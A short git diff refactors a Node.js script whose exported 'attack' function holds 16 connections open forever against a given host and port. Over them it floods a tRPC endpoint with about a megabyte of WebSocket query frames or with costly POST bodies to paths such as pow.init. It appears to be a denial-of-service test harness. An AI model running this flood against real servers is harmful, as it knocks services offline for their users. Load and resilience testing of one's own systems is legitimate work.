@@ -2,7 +2,7 @@
 import { once } from "node:events";
 import { connect } from "node:net";
 import { setTimeout as sleep } from "node:timers/promises";
-import { frame } from "../sockets.mjs";
+import { frame, HANDSHAKE, postHead } from "../sockets.mjs";
 
 const SIZE = 2 ** 20 - 1024;
 const HARD = [
@@ -17,9 +17,6 @@ const PATHS = [
   "/trpc/pow.init?batch=1",
 ];
 const CALLS = frame(Array.from({ length: 40_000 }, (_, id) => ({ id, method: "query" })));
-const HANDSHAKE =
-  "GET /trpc HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
-  "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
 
 /** 16 at the same time, each over a connection of its own, for ever. */
 export async function attack({ host, port }) {
@@ -35,10 +32,7 @@ export async function attack({ host, port }) {
         } else {
           const body = HARD[i % HARD.length];
           const path = PATHS[(i >> 1) % PATHS.length];
-          socket.write(
-            `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n` +
-              `Content-Length: ${body.length}\r\n\r\n${body}`,
-          );
+          socket.write(postHead(path, body.length) + body);
         }
         await sleep(500);
         socket.destroy();
